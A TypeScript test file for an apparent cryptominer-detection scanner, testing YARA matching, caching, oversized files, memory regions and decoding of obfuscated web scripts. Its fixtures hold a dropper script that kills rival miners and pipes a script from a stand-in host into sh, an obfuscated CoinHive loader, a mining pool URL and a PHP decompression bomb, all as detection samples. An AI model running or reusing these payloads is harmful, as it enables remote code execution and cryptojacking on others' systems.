// Tests for the content scan as a whole (walker, worker threads, cache): a warm rescan of an
// unchanged tree answers every file from the cache with the same matches, a changed file or a
// changed rule set is scanned again, a broken user rule is named with file and line while the
// other rules still run, and memory regions are chosen and ordered as documented. Files over the
// size limit: a look-alike padded with zeros (written, or sparse to 2 GiB) matches as unpadded with
// its padding recorded, a 10 GiB sparse file costs nothing, random data beyond the windows budget is
// listed partly scanned; a walked entry replaced by a link is not followed. Web files: an obfuscated
// loader in a script (and in a zip's script) is found in its decoded layer with the chain and the
// excerpt, the same bytes under a non-web name are not decoded, a decoding bomb is recorded without
// a match, and all of it comes back the same from the cache.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFile,
  copyFile,
  mkdir,
  mkdtemp,
  readFile,
  rm,
  symlink,
  truncate,
  writeFile,
} from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  compileAllRules,
  memoryRegions,
  runsRuleEngine,
  scanContent,
  type ContentScanOptions,
} from './content-scan.js';
import { deflateRawSync } from 'node:zlib';
import { ContentSchema } from '../snapshot/schema.js';
import { zip } from '../../test/helpers/archive-builders.js';
import { makeDeep, removeDeep } from '../../test/helpers/deep-tree.js';
import { DEFAULT_ARCHIVE_LIMITS } from './archives.js';
import { scanFileJob } from './scan-job.js';
import { obfuscatedLoader } from './web-normalise/test-helpers.js';

const LOOKALIKE = new URL('../../test/lookalike/miner.c', import.meta.url).pathname;

let dir: string;
let tree: string;
const DROPPER =
  'pkill -9 xmrig\npkill -9 kdevtmpfsi\nkillall -9 kinsing\ncurl -fsSL http://192.0.2.10/x.sh | sh\n';

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'minehunter-content-scan-'));
  tree = path.join(dir, 'tree');
  await mkdir(path.join(tree, 'a', 'b'), { recursive: true });
  await writeFile(path.join(tree, 'a', 'drop.sh'), DROPPER);
  for (let i = 0; i < 50; i++) await writeFile(path.join(tree, 'a', 'b', `f${i}.txt`), `plain text ${i}\n`);
  await writeFile(path.join(tree, 'run.sh'), '#!/bin/sh\necho hi\n', { mode: 0o755 });
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function options(cachePath?: string): ContentScanOptions {
  return {
    scope: 'paths',
    roots: [tree],
    oneFileSystem: true,
    maxFileSize: 1 << 20,
    exclude: [],
    cachePath,
    workers: 2,
  };
}

const matched = (files: { path: string; matches: { rule: string }[] }[]) =>
  files
    .filter((f) => f.matches.length > 0)
    .map(
      (f) =>
        `${f.path}: ${f.matches
          .map((m) => m.rule)
          .sort()
          .join(',')}`,
    );

describe('content scan', () => {
  it('answers a warm rescan from the cache and rescans what changed', async () => {
    const cache = path.join(dir, 'cache.sqlite');
    const cold = (await scanContent(options(cache))).content;
    expect(cold.stats).toMatchObject({ files: 52, cached: 0 });
    expect(matched(cold.files)).toEqual([`${tree}/a/drop.sh: MH_Dropper_Download_And_Run`]);
    // The executable script is listed with its hash for the hash IOCs, though nothing matched.
    expect(cold.files.find((f) => f.path === `${tree}/run.sh`)).toMatchObject({
      executable: true,
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });

    const warm = (await scanContent(options(cache))).content;
    expect(warm.stats).toMatchObject({ files: 52, cached: 52 });
    expect(warm.files).toEqual(cold.files);

    await appendFile(path.join(tree, 'a', 'b', 'f3.txt'), 'stratum+tcp://pool.example.invalid:3333\n');
    const changed = (await scanContent(options(cache))).content;
    expect(changed.stats.cached).toBe(51);
    expect(matched(changed.files)).toContain(`${tree}/a/b/f3.txt: MH_Config_Stratum_Pool_URL`);
  });

  it('a broken user rule is named with file and line; the good user rule and ours still run', async () => {
    const rules = path.join(dir, 'user-rules');
    await mkdir(rules, { recursive: true });
    await writeFile(
      path.join(rules, 'broken.yar'),
      'rule Broken {\n  strings:\n    $a = "abcdef"\n  condition:\n    $a and $b\n}\n',
    );
    await writeFile(
      path.join(rules, 'mine.yar'),
      'rule Local_Hello { strings: $a = "echo hi" condition: $a }\n',
    );
    const compiled = compileAllRules([rules]);
    expect(compiled.problems.map((p) => `${p.severity} ${path.basename(p.file)}:${p.line}`)).toEqual([
      'error broken.yar:5',
    ]);
    expect(compiled.problems[0]?.message.en).toMatch(
      /broken\.yar:5:\d+: rule file not loaded: .*The other rule files still run\./,
    );
    const { content } = await scanContent({ ...options(), userRuleDirs: [rules] }, compiled);
    // f3.txt holds a pool URL since the first test changed it.
    expect(matched(content.files)).toEqual([
      `${tree}/a/b/f3.txt: MH_Config_Stratum_Pool_URL`,
      `${tree}/a/drop.sh: MH_Dropper_Download_And_Run`,
      `${tree}/run.sh: Local_Hello`,
    ]);
    expect(content.files.find((f) => f.path.endsWith('run.sh'))?.matches[0]?.namespace).toBe('user.mine');
  });

  it('scans both a replaced executable still running (deleted image) and the file now at its path', async () => {
    // The running process's old image (what /proc/PID/exe opens) is harmless; the file that replaced
    // it on disk is the dropper. Keyed by path alone, the image queued first hid the new file.
    const oldImage = path.join(dir, 'old-image');
    await writeFile(oldImage, '#!/bin/sh\necho old\n', { mode: 0o755 });
    const shown = `${tree}/a/drop.sh`;
    const { content } = await scanContent({
      ...options(),
      extraFiles: [{ path: shown, io: oldImage, size: 20, seenKey: `${shown} (deleted)` }],
    });
    expect(content.files.filter((f) => f.path === shown)).toHaveLength(2);
    expect(matched(content.files)).toContain(`${shown}: MH_Dropper_Download_And_Run`);
  });

  it('hashes an archive holding a match, so hash lists of release archives can name it', async () => {
    const where = path.join(dir, 'archives');
    await mkdir(path.join(where, 'src'), { recursive: true });
    await writeFile(path.join(where, 'src', 'drop.sh'), DROPPER);
    await writeFile(path.join(where, 'src', 'notes.txt'), 'nothing to see\n');
    const tarGz = (archive: string, member: string) =>
      execFileSync('tar', ['czf', path.join(where, archive), '-C', path.join(where, 'src'), member]);
    tarGz('dropper.tar.gz', 'drop.sh');
    tarGz('notes.tar.gz', 'notes.txt');
    const { content } = await scanContent({ ...options(), roots: [where] });
    const archive = content.files.find((f) => f.path === `${where}/dropper.tar.gz`);
    expect(archive?.sha256).toBe(
      createHash('sha256')
        .update(await readFile(path.join(where, 'dropper.tar.gz')))
        .digest('hex'),
    );
    expect(matched(content.files)).toContain(`${where}/dropper.tar.gz!drop.sh: MH_Dropper_Download_And_Run`);
    // An archive where nothing matched is not listed.
    expect(content.files.some((f) => f.path.startsWith(`${where}/notes.tar.gz`))).toBe(false);
  });

  it('keeps the rows of the two newest rule sets in the cache file, not every one it saw', async () => {
    const cache = path.join(dir, 'prune.sqlite');
    const ours = (await scanContent(options(cache))).content;
    const scanWith = async (name: string, text: string) => {
      const rules = path.join(dir, `prune-${name}`);
      await mkdir(rules, { recursive: true });
      await writeFile(
        path.join(rules, `${name}.yar`),
        `rule ${name} { strings: $a = "${text}" condition: $a }\n`,
      );
      return (await scanContent({ ...options(cache), userRuleDirs: [rules] })).content;
    };
    const first = await scanWith('Extra_One', 'zulu-yankee');
    expect(first.stats.cached).toBe(0);
    // Alternating between two rule sets keeps both warm.
    expect((await scanContent(options(cache))).content.stats.cached).toBe(ours.stats.files);
    const second = await scanWith('Extra_Two', 'xray-whiskey');
    const db = new Database(cache, { readonly: true });
    try {
      const count = (sql: string): number => (db.prepare(sql).get() as { n: number }).n;
      expect(count('SELECT count(*) AS n FROM rulesets')).toBe(2);
      expect(count('SELECT count(*) AS n FROM scan_v3')).toBe(first.stats.files + second.stats.files);
    } finally {
      db.close();
    }
  });
});

describe('a file past PATH_MAX', () => {
  it('is scanned and shown by its full path, through the directory held open above it', async () => {
    const deep = path.join(dir, 'past-path-max');
    try {
      const full = makeDeep(deep, 30, 'drop.sh', DROPPER);
      const { content } = await scanContent({ ...options(), roots: [deep] });
      expect(Buffer.byteLength(full)).toBeGreaterThan(4096);
      expect(matched(content.files)).toEqual([`${full}: MH_Dropper_Download_And_Run`]);
      expect(content.skipped).toEqual([]);
    } finally {
      removeDeep(deep);
    }
  });
});

describe('scanning one file', () => {
  it('reads no more than the size the walk saw, so a file growing under the scan is bounded', async () => {
    const file = path.join(dir, 'growing.log');
    const head = 'an ordinary log line\n';
    await writeFile(file, head + DROPPER);
    const { scanner } = compileAllRules();
    const job = { id: 1, path: file, io: file, execBit: false };
    expect(scanFileJob(scanner, { ...job, size: head.length }, DEFAULT_ARCHIVE_LIMITS).matches).toEqual([]);
    const whole = scanFileJob(
      scanner,
      { ...job, size: head.length + DROPPER.length },
      DEFAULT_ARCHIVE_LIMITS,
    );
    expect(whole.matches.length).toBeGreaterThan(0);
    expect(whole.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('files over the size limit', () => {
  const MiB = 1024 * 1024;
  let large: string;
  let program: Buffer;
  const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

  beforeAll(async () => {
    large = path.join(dir, 'large');
    await mkdir(large, { recursive: true });
    execFileSync('cc', ['-O1', '-o', path.join(large, 'kworker'), LOOKALIKE]);
    program = await readFile(path.join(large, 'kworker'));
    await writeFile(path.join(large, 'padded'), Buffer.concat([program, Buffer.alloc(6 * MiB)]), {
      mode: 0o755,
    });
    await copyFile(path.join(large, 'kworker'), path.join(large, 'sparse'));
    await truncate(path.join(large, 'sparse'), 2 * 1024 * MiB);
    await writeFile(path.join(large, 'huge.img'), '');
    await truncate(path.join(large, 'huge.img'), 10 * 1024 * MiB);
    const noise = Buffer.alloc(3 * MiB);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24;
    await writeFile(path.join(large, 'noise.bin'), noise);
  });

  it('scans padded programs by their image, records the padding, lists data it could not read', async () => {
    const cache = path.join(dir, 'large.sqlite');
    const t0 = performance.now();
    const { content } = await scanContent({ ...options(cache), roots: [large] });
    expect(performance.now() - t0).toBeLessThan(20_000);
    const file = (name: string) => content.files.find((f) => f.path === path.join(large, name));
    const rules = (name: string) =>
      file(name)
        ?.matches.map((m) => m.rule)
        .sort();
    expect(rules('kworker')).toContain('MH_XMRig_Miner');
    for (const name of ['padded', 'sparse']) {
      expect(rules(name), name).toEqual(rules('kworker'));
      expect(file(name)?.padding).toEqual({
        offset: program.length,
        length: (file(name)?.size ?? 0) - program.length,
        byte: 0,
        sha256Before: sha(program),
      });
      expect(file(name)?.parts).toMatchObject({
        how: 'program',
        format: 'elf',
        scanned: [[0, program.length]],
      });
    }
    // Hashed whole where the evidence needs it and it is affordable; 2 GiB is not.
    expect(file('padded')?.sha256).toBe(sha(await readFile(path.join(large, 'padded'))));
    expect(file('sparse')?.sha256).toBeUndefined();
    // The unpadded program, under the limit, is read whole as before.
    expect(file('kworker')?.parts).toBeUndefined();
    expect(file('huge.img')).toBeUndefined();
    expect(content.skipped).toEqual([
      {
        path: path.join(large, 'noise.bin'),
        reason: 'partly-scanned',
        detail: expect.stringMatching(
          /^scanned 1\.0 MiB of 3\.0 MiB by windows .*; not read \(over the scan budget\): /,
        ),
      },
    ]);
    expect(content.stats).toMatchObject({ files: 5, partsFiles: 4 });
    expect(content.stats.bytesSkippedByParts).toBeGreaterThan(12 * 1024 * MiB);

    // A warm rescan answers from the cache with the same records and the same skip.
    const warm = (await scanContent({ ...options(cache), roots: [large] })).content;
    expect(warm.stats.cached).toBe(5);
    expect(warm.files).toEqual(content.files);
    expect(warm.skipped).toEqual(content.skipped);
  });

  it('a padded program without a match keeps its padding on a warm rescan (scanned again)', async () => {
    const where = path.join(dir, 'clean-padded');
    await mkdir(where, { recursive: true });
    await writeFile(path.join(where, 'true.c'), 'int main(void) { return 0; }\n');
    execFileSync('cc', ['-o', path.join(where, 'tool'), path.join(where, 'true.c')]);
    const tool = await readFile(path.join(where, 'tool'));
    await writeFile(path.join(where, 'tool'), Buffer.concat([tool, Buffer.alloc(5 * MiB, 0xff)]), {
      mode: 0o755,
    });
    const cache = path.join(dir, 'clean-padded.sqlite');
    for (const round of ['cold', 'warm']) {
      const { content } = await scanContent({ ...options(cache), roots: [path.join(where, 'tool')] });
      expect(content.files, round).toEqual([
        expect.objectContaining({
          path: path.join(where, 'tool'),
          matches: [],
          padding: { offset: tool.length, length: 5 * MiB, byte: 0xff, sha256Before: sha(tool) },
        }),
      ]);
    }
  });

  it('a walked entry that became a link is not followed; a named root or process exe is', async () => {
    const link = path.join(dir, 'link-to-drop');
    await symlink(path.join(tree, 'a', 'drop.sh'), link);
    const { scanner } = compileAllRules();
    const job = { id: 1, path: link, io: link, execBit: false, size: DROPPER.length, limit: MiB };
    expect(scanFileJob(scanner, job, DEFAULT_ARCHIVE_LIMITS).skips).toEqual([
      { path: link, reason: 'special-file', detail: 'replaced by a symbolic link' },
    ]);
    expect(scanFileJob(scanner, { ...job, follow: true }, DEFAULT_ARCHIVE_LIMITS).matches).not.toEqual([]);
  });
});

describe('content scan of an offline system (--root)', () => {
  it('shows paths as that system sees them, while reading them under the root', async () => {
    const root = path.join(dir, 'image');
    await mkdir(path.join(root, 'tmp', '.x'), { recursive: true });
    await writeFile(path.join(root, 'tmp', '.x', 'drop.sh'), DROPPER);
    await writeFile(path.join(root, 'tmp', 'empty'), '');
    const { content } = await scanContent({
      ...options(),
      roots: [path.join(root, 'tmp')],
      displayRoot: root,
    });
    expect(content.roots).toEqual(['/tmp']);
    expect(matched(content.files)).toEqual([expect.stringMatching(/^\/tmp\/\.x\/drop\.sh: /)]);
    expect(content.skipped).toContainEqual({ path: '/tmp/empty', reason: 'empty' });
    // Without a display root the same files are shown where this host has them.
    const host = await scanContent({ ...options(), roots: [path.join(root, 'tmp')] });
    expect(matched(host.content.files)[0]).toContain(path.join(root, 'tmp', '.x', 'drop.sh'));
  });
});

describe('memory regions', () => {
  const maps = [
    '55d0c0a00000-55d0c0a21000 r--p 00000000 08:01 131 /usr/bin/x',
    '55d0c0a21000-55d0c0a60000 r-xp 00021000 08:01 131 /usr/bin/x',
    '55d0c0c60000-55d0c0c62000 rw-p 00060000 08:01 131 /usr/bin/x',
    '55d0c1000000-55d0c1021000 rw-p 00000000 00:00 0 [heap]',
    '7f0000000000-7f0000100000 rw-p 00000000 00:00 0 ',
    '7f0000200000-7f0000201000 r-xp 00000000 00:01 77 /memfd:payload (deleted)',
    '7f0000300000-7f0000301000 ---p 00000000 00:00 0 ',
    '7ffc00000000-7ffc00021000 rw-p 00000000 00:00 0 [stack]',
    '7ffc00100000-7ffc00102000 r--p 00000000 00:00 0 [vvar]',
    '7f0000400000-7f0000401000 rw-s 00000000 00:01 9 /dev/zero (deleted)',
    '7f0000500000-7f0000502000 rw-p 00000000 00:00 0 [anon:scratch]',
    '7f0000600000-7f0000601000 rw-p 00000000 00:0e 12 anon_inode:[io_uring]',
  ].join('\n');

  it('keeps writable and deleted/memfd regions, program data first, then heap, stack, anonymous', () => {
    expect(memoryRegions(maps).map((r) => r.start.toString(16))).toEqual([
      '55d0c0c60000',
      '7f0000200000',
      '7f0000400000',
      '55d0c1000000',
      '7ffc00000000',
      '7f0000000000',
      '7f0000500000',
      '7f0000600000',
    ]);
  });

  it('marks as anonymous (untouched pages left unread) only private maps of no file or device', () => {
    const anonymous = memoryRegions(maps)
      .filter((r) => r.anonymous)
      .map((r) => r.start.toString(16));
    // Heap, stack, an unnamed and a named private map; not shmem, a program's data or a driver's map.
    expect(anonymous.sort()).toEqual(['55d0c1000000', '7f0000000000', '7f0000500000', '7ffc00000000']);
  });

  it('recognises processes that load a YARA engine', () => {
    expect(
      runsRuleEngine(
        '7f0 r-xp 0 0 1 /app/node_modules/@litko/yara-x-linux-x64-gnu/yara-x.linux-x64-gnu.node',
      ),
    ).toBe(true);
    expect(runsRuleEngine('7f0 r-xp 0 0 1 /usr/lib/x86_64-linux-gnu/libyara.so.9')).toBe(true);
    expect(runsRuleEngine(maps)).toBe(false);
  });
});

describe('web content', () => {
  /** The loader: a string array with hex escapes over window.Function(window.atob(...)). */
  const LOADER = `/*! app v1 */var app={init:function(){return 1}};app.init();\n${obfuscatedLoader({ style: 'checksum', rotation: 4 })}\n`;
  /** PHP that echoes 16 MiB inflated from a few KiB: refused as a bomb. */
  const BOMB = `<?php echo gzinflate(base64_decode('${deflateRawSync(Buffer.alloc(16 << 20)).toString('base64')}')); ?>\n`;
  let site: string;

  beforeAll(async () => {
    site = path.join(dir, 'site');
    await mkdir(path.join(site, 'js'), { recursive: true });
    await writeFile(path.join(site, 'js', 'main.js'), LOADER);
    // The same bytes under a name no browser runs: scanned as they are only.
    await writeFile(path.join(site, 'js', 'main.txt'), LOADER);
    await writeFile(path.join(site, 'footer.php'), BOMB);
    await writeFile(path.join(site, 'clean.js'), 'export const sum = (a, b) => a + b;\n');
    await writeFile(path.join(site, 'backup.zip'), zip([{ name: 'js/main.js', data: Buffer.from(LOADER) }]));
  });

  it('finds an obfuscated loader in its decoded layer, with the chain and the decoded excerpt', () => {
    const { scanner } = compileAllRules();
    const file = path.join(site, 'js', 'main.js');
    const job = { id: 1, path: file, io: file, execBit: false, size: LOADER.length };
    const r = scanFileJob(scanner, job, DEFAULT_ARCHIVE_LIMITS);
    const coinhive = r.matches.find((m) => m.rule === 'MH_Web_CoinHive');
    expect(coinhive?.decoded?.chain).toEqual(expect.arrayContaining(['js-string-array', 'atob']));
    expect(coinhive?.decoded?.excerpt).toContain('new CoinHive.Anonymous("SITE_KEY_0123456789"');
    expect(r).toMatchObject({ form: 'text', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(r.web).toBeUndefined();
    // Workers post results and the cache stores them as JSON: they must survive the trip unchanged.
    expect(JSON.parse(JSON.stringify(r))).toEqual(r);
    const txt = path.join(site, 'js', 'main.txt');
    expect(scanFileJob(scanner, { ...job, path: txt, io: txt }, DEFAULT_ARCHIVE_LIMITS).matches).toEqual([]);
  });

  it('records decoded matches, archive entries and bombs in the snapshot, the same from the cache', async () => {
    const cache = path.join(dir, 'web-cache.sqlite');
    const cold = (await scanContent({ ...options(cache), roots: [site] })).content;
    expect(() => ContentSchema.parse(cold)).not.toThrow();
    const byPath = (p: string) => cold.files.find((f) => f.path === path.join(site, p));
    for (const p of ['js/main.js', 'backup.zip!js/main.js']) {
      const m = byPath(p)?.matches.find((x) => x.rule === 'MH_Web_CoinHive');
      expect(m?.decoded, p).toMatchObject({
        chain: expect.arrayContaining(['js-string-array', 'atob']),
        excerpt: expect.stringContaining('coinhive.min.js'),
      });
    }
    expect(byPath('js/main.txt')).toBeUndefined();
    expect(byPath('clean.js')).toBeUndefined();
    const footer = byPath('footer.php');
    expect(footer?.web?.bombs?.[0]).toMatch(/^php:gzinflate: output exceeds .* not followed$/);
    expect(footer?.matches.filter((m) => m.decoded)).toEqual([]);
    expect(footer?.sha256).toMatch(/^[0-9a-f]{64}$/);

    const warm = (await scanContent({ ...options(cache), roots: [site] })).content;
    expect(warm.stats.cached).toBe(warm.stats.files);
    expect(warm.files).toEqual(cold.files);
  });
});
